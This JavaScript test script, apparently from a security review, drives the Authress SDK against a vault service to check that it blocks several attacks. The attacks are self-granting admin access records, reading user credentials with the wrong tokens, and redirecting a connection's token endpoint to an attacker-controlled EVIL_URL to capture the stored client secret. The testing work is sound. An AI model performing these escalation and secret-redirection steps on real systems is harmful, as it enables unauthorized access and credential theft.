// The security review's attacks, made with the unmodified Authress JavaScript SDK (tests/tests/attacks_sdk.rs
// sets up the callers). Prints one JSON line of what each attempt got; exits non-zero on a script error.
const { AuthressClient, ServiceClientTokenProvider } = require('@authress/sdk');

async function outcome(call) {
  return call.then(r => ({ status: r.status }), e => ({ status: e.status, errorCode: e.data && e.data.errorCode }));
}

async function main() {
  const { VAULT_URL, WRITER_KEY, WRITER_ID, RECORD_ID, ID_TOKEN, ACCESS_TOKEN, USER_ID, CONNECTION_ID, EVIL_URL } = process.env;
  const writer = new AuthressClient({ authressApiUrl: VAULT_URL }, new ServiceClientTokenProvider(WRITER_KEY, VAULT_URL));
  const admin = {
    name: 'mine', users: [{ userId: WRITER_ID }],
    statements: [{ roles: ['vault:admin'], resources: [{ resourceUri: '*' }] }]
  };
  const results = {
    updateToAdmin: await outcome(writer.accessRecords.updateRecord(RECORD_ID, admin)),
    createAdmin: await outcome(writer.accessRecords.createRecord({ recordId: 'rec_sdk_mine', ...admin })),
    writerReads: await outcome(writer.connections.getConnectionCredentials(CONNECTION_ID, USER_ID)),
    // The id_token as the bearer of the SDK's own user-credential call (no user id: the SDK takes `sub`).
    idTokenReads: await outcome(new AuthressClient({ authressApiUrl: VAULT_URL }, () => ID_TOKEN)
      .connections.getConnectionCredentials(CONNECTION_ID)),
    accessTokenReads: await outcome(new AuthressClient({ authressApiUrl: VAULT_URL }, () => ACCESS_TOKEN)
      .connections.getConnectionCredentials(CONNECTION_ID))
  };
  // Steering the stored client secret: the connection put back with another token endpoint and no secret.
  const connection = (await writer.connections.getConnection(CONNECTION_ID)).data;
  results.steerTokenUrl = await outcome(writer.connections.updateConnection(CONNECTION_ID,
    { ...connection, tokenUrl: `${EVIL_URL}/token` }));
  // What the SDK's token provider really makes, for the vault's lifetime bound.
  const signed = await new ServiceClientTokenProvider(WRITER_KEY, VAULT_URL).getToken();
  const claims = JSON.parse(Buffer.from(signed.split('.')[1], 'base64url').toString());
  results.tokenLifetime = claims.exp - claims.iat;
  console.log(JSON.stringify(results));
}

main().catch(error => {
  console.error(error && (error.stack || JSON.stringify(error)));
  process.exit(1);
});
